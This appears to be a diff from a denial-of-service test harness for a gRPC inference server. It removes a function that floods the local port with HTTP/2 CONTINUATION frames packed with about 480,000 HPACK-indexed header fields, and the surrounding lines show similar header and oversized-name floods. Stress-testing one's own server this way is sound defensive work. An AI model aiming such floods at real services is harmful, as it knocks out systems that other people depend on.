@@ -101,19 +101,6 @@ def endless_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
         _send_and_drop(target, goes_on, begin + more * 10)
 
 
-def indexed_heads(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
-    """Send heads of half a million fields, of which each but the first is a byte, and close the connection."""
-    indexed, again = (
-        b"\x40\1a\1b",
-        b"\xbe",
-    )  # kept in the table of HPACK, where it is the first (RFC 7541, 6.2.1 and 6.1)
-    begin = _frame(_HEADERS, 0, 1, _head_block(_INFER, ()) + indexed)
-    more = _frame(_CONTINUATION, 0, 1, again * 16_000) * 30
-    while goes_on():
-        with suppress(OSError), socket.create_connection(("127.0.0.1", target.grpc), timeout=5.0) as connection:
-            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + begin + more)
-
-
 def long_names(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
     """Ask for models that there are not, by names of 200 KB."""
     name = b"m" * 200_000
